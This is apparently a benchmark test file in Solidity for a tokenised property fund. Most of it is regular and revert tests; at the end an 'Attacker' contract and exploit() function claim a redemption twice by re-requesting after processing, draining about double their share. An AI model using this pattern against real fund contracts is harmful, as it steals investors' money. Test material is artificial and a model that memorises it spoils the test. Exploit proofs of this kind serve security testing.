// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

// assay-canary-537b4875-f558-4543-95e5-c17bb8d16dd5

import "./PropertyFund.sol";
import "./context/FundLens.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Usdc is ERC20("USDC", "USDC") {
    address private minter = msg.sender;

    constructor() {
        _setupDecimals(6);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        _mint(to, value);
    }
}

/// A holder like the others.
contract Attacker {
    PropertyFund private fund;

    constructor(PropertyFund fund_) {
        fund = fund_;
        fund_.usdc().approve(address(fund_), uint256(-1));
    }

    function subscribe(uint256 shares) external {
        fund.subscribe(shares, uint256(-1));
    }

    function request() public {
        fund.requestRedemption(fund.balanceOf(address(this)));
    }

    function again() external {
        fund.process(address(this));
        request();
    }

    function finish() external {
        fund.process(address(this));
        fund.claim();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1790000000;
    uint256 private constant MAX = uint256(-1);
    address private constant ANA = address(0xA11A);
    address private constant BEN = address(0xBE11);
    address private constant STRANGER = address(0x57A9);
    address private constant MANAGER = address(0x3A9A);
    address private constant TREASURY = address(0x7EA5);
    address private constant APPRAISER = address(0xA994);

    Usdc public usdc;
    InvestorRegistry public registry;
    NavOracle public oracle;
    PropertyFund public fund;
    FundLens public lens;
    Attacker public leaver;

    function setUp() public {
        vm.warp(START);
        usdc = new Usdc();
        registry = new InvestorRegistry();
        oracle = new NavOracle(APPRAISER, 100e6);
        fund = new PropertyFund(usdc, registry, oracle, MANAGER, TREASURY, 10000);
        lens = new FundLens();
        leaver = new Attacker(fund);
        address[] memory all = new address[](3);
        (all[0], all[1], all[2]) = (ANA, BEN, address(leaver));
        registry.setMany(all, true);
        usdc.mint(ANA, 600000e6);
        usdc.mint(BEN, 100000e6);
        usdc.mint(address(leaver), 101000e6);
        vm.prank(ANA);
        usdc.approve(address(fund), MAX);
        vm.prank(BEN);
        usdc.approve(address(fund), MAX);
        vm.prank(ANA);
        fund.subscribe(4000, 404000e6);
        leaver.subscribe(1000);
        vm.prank(MANAGER);
        fund.invest(address(0x1111), 250000e6, "a house");
        leaver.request();
        vm.warp(START + 30 days);
    }

    function list(address one, address two) private pure returns (address[] memory both) {
        both = new address[](2);
        (both[0], both[1]) = (one, two);
    }

    function publish(uint256 nav) private {
        vm.prank(APPRAISER);
        oracle.publish(nav);
    }

    function test_Regular() public {
        require(fund.freeCash() == 250000e6 && usdc.balanceOf(TREASURY) == 5000e6, "cash and fees");
        require(lens.liquidity(IPropertyFund(address(fund))) == 5000, "half of it is cash");

        // Processed and claimed.
        require(fund.process(address(leaver)) == 100000e6, "value of the day");
        require(fund.totalOwed() == 100000e6 && fund.freeCash() == 150000e6, "set aside");
        vm.prank(address(leaver));
        require(fund.claim() == 100000e6 && usdc.balanceOf(address(leaver)) == 100000e6, "paid");
        require(fund.balanceOf(address(leaver)) == 0 && fund.totalSupply() == 4000, "burned");

        // Shares move, requested ones do not; a request is cancelled, another one made.
        vm.startPrank(ANA);
        fund.transfer(BEN, 500);
        fund.approve(BEN, 50);
        fund.increaseAllowance(BEN, 60);
        fund.decreaseAllowance(BEN, 10);
        fund.requestRedemption(100);
        fund.cancelRedemption();
        fund.requestRedemption(1000);
        vm.stopPrank();
        vm.prank(BEN);
        fund.transferFrom(ANA, BEN, 100);
        (uint256 free, uint256 worth, uint256 owed) = lens.holder(IPropertyFund(address(fund)), ANA);
        require(free == 2400 && worth == 340000e6 && owed == 0, "lens");

        // The value of the day counts, both up and down.
        vm.prank(BEN);
        fund.requestRedemption(600);
        vm.warp(START + 60 days);
        publish(110e6);
        require(fund.processMany(list(ANA, BEN)) == 1, "cash for one only");
        publish(90e6);
        vm.prank(ANA);
        require(fund.claim() == 110000e6, "before it fell");
        require(fund.processMany(list(BEN, ANA)) == 0 && fund.freeCash() == 40000e6, "still short");
        usdc.mint(address(this), 60000e6);
        usdc.approve(address(fund), 60000e6);
        fund.payIn(60000e6);
        require(fund.processMany(list(STRANGER, BEN)) == 1 && fund.owedTo(BEN) == 54000e6, "enough now");
        registry.set(BEN, false);
        vm.prank(BEN);
        require(fund.claim() == 54000e6 && fund.balanceOf(BEN) == 0, "struck off and paid");
        registry.set(BEN, true);

        // Notice, fees and pauses change.
        fund.setTerms(0, 7 days, 2500);
        vm.prank(BEN);
        require(fund.subscribe(100, 9000e6) == 9000e6, "no fee");
        vm.prank(BEN);
        fund.requestRedemption(100);
        vm.warp(START + 67 days);
        require(fund.process(BEN) == 9000e6, "a week");
        vm.startPrank(MANAGER);
        fund.setPaused(true);
        fund.setPaused(false);
        fund.invest(BEN, 46000e6, "a shed");
        vm.stopPrank();
        require(fund.freeCash() == 0 && usdc.balanceOf(address(fund)) == 9000e6, "all invested");
        usdc.mint(address(fund), 3e6);
        require(fund.rescue(usdc) == 3e6 && usdc.balanceOf(TREASURY) == 5003e6, "came by mistake");
        Usdc other = new Usdc();
        other.mint(address(fund), 4e6);
        require(fund.rescue(other) == 4e6 && other.balanceOf(TREASURY) == 4e6, "another token");
        fund.setAccounts(BEN, ANA);
        require(fund.manager() == BEN && fund.treasury() == ANA, "accounts");
        oracle.setAppraiser(BEN);
        oracle.transferOwnership(BEN);
        fund.transferOwnership(BEN);
        require(oracle.appraiser() == BEN && fund.owner() == BEN, "owner");
        vm.prank(BEN);
        fund.renounceOwnership();
        require(fund.owner() == address(0), "nobody's");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, string memory why) private {
        vm.prank(who);
        vm.expectRevert(bytes(why));
    }

    function test_RefusesStrangers() public {
        string memory why = "Ownable: caller is not the owner";
        refuses(ANA, why);
        fund.setAccounts(ANA, ANA);
        refuses(ANA, why);
        fund.setTerms(0, 7 days, 1);
        refuses(ANA, why);
        fund.rescue(usdc);
        refuses(ANA, why);
        fund.transferOwnership(ANA);
        refuses(ANA, why);
        fund.renounceOwnership();
        refuses(ANA, why);
        registry.set(STRANGER, true);
        address[] memory both = list(STRANGER, STRANGER);
        refuses(ANA, why);
        registry.setMany(both, true);
        both = new address[](0);
        refuses(ANA, why);
        registry.setMany(both, true);
        refuses(ANA, why);
        oracle.setAppraiser(ANA);
        refuses(ANA, "not appraiser");
        oracle.publish(100e6);
        refuses(ANA, "not manager");
        fund.invest(ANA, 1, "");
        refuses(ANA, "not manager");
        fund.setPaused(true);
        vm.expectRevert("Ownable: new owner is the zero address");
        fund.transferOwnership(address(0));
    }

    function test_RefusesSubscriptions() public {
        refuses(ANA, "no shares");
        fund.subscribe(0, MAX);
        refuses(ANA, "fund full");
        fund.subscribe(5001, MAX);
        refuses(ANA, "too dear");
        fund.subscribe(10, 1010e6 - 1);
        refuses(STRANGER, "not an investor");
        fund.subscribe(1, MAX);
        refuses(STRANGER, "ERC20: transfer amount exceeds balance");
        fund.payIn(1);
        vm.prank(MANAGER);
        fund.setPaused(true);
        refuses(ANA, "Pausable: paused");
        fund.subscribe(1, MAX);
        refuses(address(leaver), "Pausable: paused");
        fund.process(address(leaver));
        address[] memory both = list(address(leaver), ANA);
        refuses(ANA, "Pausable: paused");
        fund.processMany(both);
        vm.prank(MANAGER);
        fund.setPaused(false);
        vm.warp(START + 100 days + 1);
        refuses(ANA, "old nav");
        fund.subscribe(1, MAX);
    }

    function test_RefusesRequests() public {
        refuses(address(leaver), "has a request");
        fund.requestRedemption(1000);
        refuses(address(leaver), "locked");
        fund.transfer(ANA, 1);
        refuses(ANA, "bad shares");
        fund.requestRedemption(0);
        refuses(ANA, "bad shares");
        fund.requestRedemption(4001);
        refuses(ANA, "nothing to cancel");
        fund.cancelRedemption();
        refuses(ANA, "nothing to claim");
        fund.claim();
        refuses(address(leaver), "nothing to claim");
        fund.claim();
        refuses(ANA, "no request");
        fund.process(ANA);
        vm.prank(ANA);
        fund.requestRedemption(3000);
        refuses(ANA, "not ripe");
        fund.process(ANA);
        require(fund.processMany(list(ANA, BEN)) == 0, "none is ripe");
        vm.warp(START + 60 days);
        refuses(ANA, "short of cash");
        fund.process(ANA);
        fund.process(address(leaver));
        refuses(ANA, "no request");
        fund.process(address(leaver));
        refuses(address(leaver), "nothing to cancel");
        fund.cancelRedemption();
        refuses(address(leaver), "locked");
        fund.transfer(ANA, 1);
        refuses(MANAGER, "short of cash");
        fund.invest(MANAGER, 150000e6 + 1, "");
        refuses(ANA, "not an investor");
        fund.transfer(STRANGER, 1);
    }

    function test_RefusesSettings() public {
        address me = address(this);
        refuses(me, "zero address");
        fund.setAccounts(address(0), ANA);
        refuses(me, "zero address");
        fund.setAccounts(ANA, address(0));
        refuses(me, "fee too high");
        fund.setTerms(201, 7 days, 1);
        refuses(me, "bad notice");
        fund.setTerms(0, 7 days - 1, 1);
        refuses(me, "bad notice");
        fund.setTerms(0, 90 days + 1, 1);
        refuses(APPRAISER, "big move");
        oracle.publish(70e6 - 1);
        refuses(APPRAISER, "big move");
        oracle.publish(130e6 + 1);
        refuses(me, "no appraiser");
        oracle.setAppraiser(address(0));
        refuses(me, "no account");
        registry.set(address(0), true);
    }

    function test_RefusesSetups() public {
        address me = address(this);
        refuses(me, "bad setup");
        new NavOracle(address(0), 1);
        refuses(me, "bad setup");
        new NavOracle(ANA, 0);
        refuses(me, "no registry");
        new PropertyFund(usdc, InvestorRegistry(address(0)), oracle, ANA, ANA, 1);
        refuses(me, "bad setup");
        new PropertyFund(IERC20(address(0)), registry, oracle, ANA, ANA, 1);
        refuses(me, "bad setup");
        new PropertyFund(usdc, registry, NavOracle(address(0)), ANA, ANA, 1);
        refuses(me, "zero address");
        new PropertyFund(usdc, registry, oracle, address(0), ANA, 1);
        refuses(me, "zero address");
        new PropertyFund(usdc, registry, oracle, ANA, address(0), 1);
    }

    function exploit() public {
        leaver.again();
        vm.warp(START + 60 days);
        leaver.finish();
    }

    function test_Exploit() public {
        uint256 before = usdc.balanceOf(address(leaver));
        exploit();
        require(usdc.balanceOf(address(leaver)) >= before + 200000e6, "paid once");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(leaver);
    }
}
